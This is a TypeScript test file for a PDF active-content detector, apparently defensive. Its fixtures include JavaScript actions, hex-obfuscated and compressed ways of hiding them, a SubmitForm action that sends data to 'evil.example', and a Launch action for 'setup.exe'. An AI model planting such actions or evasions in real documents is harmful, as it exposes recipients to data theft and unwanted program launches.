import { deflateSync } from 'node:zlib'
import PDFDocument from 'pdfkit'
import { describe, expect, it } from 'vitest'
import { couldAct } from './couldAct.ts'

const pdf = (...parts: (string | Buffer)[]) =>
  new Blob([Buffer.concat(['%PDF-1.7\n', ...parts].map((part) => Buffer.from(part as string, 'latin1')))])
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const stream = (filter: string, content: Buffer, end = '\nendstream') => [
  `9 0 obj << /Type /ObjStm /N 1 /First 4 ${filter} >>\nstream\n`,
  content,
  `${end}\nendobj\n`,
]

async function written(fill: (document: PDFKit.PDFDocument) => void): Promise<Blob> {
  const document = new PDFDocument()
  fill(document)
  document.end()
  const chunks: Buffer[] = []
  for await (const chunk of document) chunks.push(chunk as Buffer)
  return new Blob([Buffer.concat(chunks)])
}

describe('a PDF', () => {
  it('that shows its pages and leads to others could do no more', async () => {
    const plain = await written((document) => document.text('Quittance').link(0, 0, 9, 9, 'https://example.org'))
    expect(await couldAct(plain)).toBe(false)
    expect(await couldAct(pdf(...stream('/Filter /FlateDecode', deflateSync('1 0 << /Type /Page >>'))))).toBe(false)
    for (const end of ['endstream', '\r\nendstream', '\rendstream'])
      expect(await couldAct(pdf(...stream('/Filter [/FlateDecode]', deflateSync('1 0 <<>>'), end)))).toBe(false)
  })

  const packed = deflateSync(script)
  it.each<[string, (string | Buffer)[]]>([
    ['a script', [script]],
    ['a script under a name in other letters', [script.replace('Java', '#4a#61va')]],
    ['a script in a packed part', stream('/Filter /FlateDecode', packed)],
    [
      'a script where two pieces of a packed part meet',
      stream('/Filter /Fl', deflateSync('x'.repeat(16_378) + script)),
    ],
    ['a part that is packed twice', stream('/Filter [/FlateDecode /FlateDecode]', deflateSync(packed))],
    ['a part in another packing', stream('/Filter /ASCIIHexDecode', Buffer.from('3c'))],
    ['a packing that is told elsewhere', stream('/Filter 8 0 R', packed)],
    ['a broken packed part', stream('/Filter /FlateDecode', packed.subarray(0, 12))],
    ['a form that sends itself', ['<< /S /SubmitForm /F (http://evil.example) >>']],
    ['a program to start', ['<< /S /Launch /F (setup.exe) >>']],
    ['what is encrypted', ['trailer << /Encrypt << /Filter /Standard >> >>']],
  ])('with %s counts as acting', async (_, parts) => {
    expect(await couldAct(pdf(...parts))).toBe(true)
  })
})
